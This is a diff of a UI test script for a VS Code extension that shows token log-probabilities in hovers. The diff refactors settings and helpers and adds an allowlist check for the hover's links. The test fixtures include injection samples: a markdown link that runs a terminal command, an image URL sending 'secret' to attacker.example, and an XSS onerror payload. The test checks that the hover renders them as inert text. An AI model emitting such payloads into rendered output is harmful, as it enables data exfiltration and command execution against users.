@@ -16,8 +16,15 @@ const PROMPTS = [
   ['Write a link for me.', 'hostile-token', 'Click [x](command:workbench.action.terminal.new) now'],
 ];
 
-export async function runUi({ codeServer, runDir, log }) {
-  const { startReplayServer } = require(path.join(root, 'out', 'test', 'support', 'replayServer.js'));
+/** The workbench as the screenshots show it: a dark theme, a readable font, no clutter. */
+export const UI_SETTINGS = {
+  'editor.fontSize': 15, 'workbench.colorTheme': 'Default Dark Modern', 'editor.minimap.enabled': false, 'window.commandCenter': false,
+  'workbench.layoutControl.enabled': false, 'editor.hover.delay': 150, 'workbench.secondarySideBar.defaultVisibility': 'hidden',
+  'workbench.activityBar.location': 'hidden',
+};
+
+/** Packages the VSIX and installs it with code-server --install-extension, as a user would; returns the extensions dir. */
+export function installVsix({ codeServer, runDir, log }) {
   const vsix = packageVsix(runDir);
   const extensionsDir = path.join(runDir, 'extensions');
   const env = { ...process.env };
@@ -29,6 +36,12 @@ export async function runUi({ codeServer, runDir, log }) {
     { env, encoding: 'utf8', timeout: 120_000 });
   if (installed.status !== 0) throw new Error(`code-server --install-extension failed:\n${installed.stdout}\n${installed.stderr}`);
   log(`installed ${path.basename(vsix)} with code-server --install-extension`);
+  return extensionsDir;
+}
+
+export async function runUi({ codeServer, runDir, log }) {
+  const { startReplayServer } = require(path.join(root, 'out', 'test', 'support', 'replayServer.js'));
+  const extensionsDir = installVsix({ codeServer, runDir, log });
 
   const workspace = path.join(runDir, 'workspace');
   fs.mkdirSync(workspace, { recursive: true });
@@ -37,12 +50,7 @@ export async function runUi({ codeServer, runDir, log }) {
   const replay = await startReplayServer({ paceMs: 30 });
   const server = await startCodeServer({
     codeServer, runDir, folder: workspace, extensionsDir,
-    userSettings: {
-      'logprobLens.baseUrl': replay.baseUrl, 'logprobLens.model': 'replayed', 'editor.fontSize': 15,
-      'workbench.colorTheme': 'Default Dark Modern', 'editor.minimap.enabled': false, 'window.commandCenter': false,
-      'workbench.layoutControl.enabled': false, 'editor.hover.delay': 150, 'workbench.secondarySideBar.defaultVisibility': 'hidden',
-      'workbench.activityBar.location': 'hidden',
-    },
+    userSettings: { 'logprobLens.baseUrl': replay.baseUrl, 'logprobLens.model': 'replayed', ...UI_SETTINGS },
   });
   const checks = [];
   const check = async (name, body) => {
@@ -111,8 +119,10 @@ export async function runUi({ codeServer, runDir, log }) {
       const hostile = '[x](command:workbench.action.terminal.new)';
       const text = await hoverText(page, `Click ${hostile} now`, 10);
       if (!text.includes(hostile)) throw new Error(`hover lacks the literal token: ${text.slice(0, 300)}`);
-      const links = await page.evaluate(() => [...document.querySelectorAll('.monaco-hover a')].map((link) => link.getAttribute('href') ?? link.getAttribute('data-href') ?? link.textContent));
-      if (links.some((link) => /command:|attacker/.test(link ?? ''))) throw new Error(`the hover has links: ${links.join(', ')}`);
+      const links = await hoverLinks(page);
+      // Our own action links (Inspect here: this endpoint has no prefill or logit bias) are the only ones allowed.
+      const foreign = links.filter((link) => !OWN_COMMAND_LINK.test(link));
+      if (foreign.length > 0) throw new Error(`the hover has links that are not ours: ${foreign.join(', ')}`);
       const images = await page.evaluate(() => document.querySelectorAll('.monaco-hover img, .monaco-hover .codicon-alert').length);
       if (images > 0) throw new Error('the hover rendered an image or an icon');
       for (const literal of ['␣![](https://attacker.example/?q=secret)', '␣<img␣src=x␣onerror=alert(1)>', '␣$(alert)', '␣``', '␣|', '␣&lt;', '<|endoftext|>', '▁the', '⟨U+202E⟩evil']) {
@@ -144,6 +154,15 @@ export async function runUi({ codeServer, runDir, log }) {
   return { passed: checks.filter(([, ok]) => ok).length, failed: checks.filter(([, ok]) => !ok).length };
 }
 
+/** What a hover's anchors point at: their href, or the data-href VS Code keeps for command links. */
+export function hoverLinks(page) {
+  return page.evaluate(() => [...document.querySelectorAll('.monaco-hover a')]
+    .map((link) => link.getAttribute('data-href') || link.getAttribute('href') || `(no target: ${link.textContent})`));
+}
+
+/** A link to one of our hover commands (core/hoverActions.ts HOVER_COMMANDS), with its encoded arguments. */
+export const OWN_COMMAND_LINK = /^command:logprobLens\.(?:continueWith|ban|boost|inspectToken)\?[A-Za-z0-9%._-]+$/;
+
 function packageVsix(runDir) {
   const out = path.join(runDir, 'logprob-lens.vsix');
   const vsce = path.join(root, 'node_modules', '@vscode', 'vsce', 'vsce');
@@ -163,11 +182,11 @@ async function pick(page, key, text) {
   await page.keyboard.press('Enter');
 }
 
-const quickOpen = (page, file) => pick(page, 'Control+P', file);
-const runCommand = (page, title) => pick(page, 'F1', title);
+export const quickOpen = (page, file) => pick(page, 'Control+P', file);
+export const runCommand = (page, title) => pick(page, 'F1', title);
 
 /** Selects the line holding `text` with the mouse (click at its start, shift-click at its end), as a user would. */
-async function selectLine(page, text) {
+export async function selectLine(page, text) {
   const box = await textBox(page, text, 0, text.length);
   await page.mouse.click(box.left + 1, box.top + box.height / 2);
   await page.keyboard.press('Home');
@@ -175,7 +194,7 @@ async function selectLine(page, text) {
 }
 
 /** Moves the mouse onto character `at` of `text` in the editor and returns the hover's text. */
-async function hoverText(page, text, at) {
+export async function hoverText(page, text, at) {
   await page.mouse.move(5, 600);
   await sleep(300);
   const box = await textBox(page, text, at, at + 1);
@@ -186,7 +205,7 @@ async function hoverText(page, text, at) {
 }
 
 /** Screen box of characters [from, to) of `text` in the editor's rendered lines. */
-async function textBox(page, text, from, to) {
+export async function textBox(page, text, from, to) {
   const box = await page.evaluate(([wanted, start, end]) => {
     for (const line of document.querySelectorAll('.monaco-editor .view-lines .view-line')) {
       const content = line.textContent.replace(/\u00a0/g, ' ');
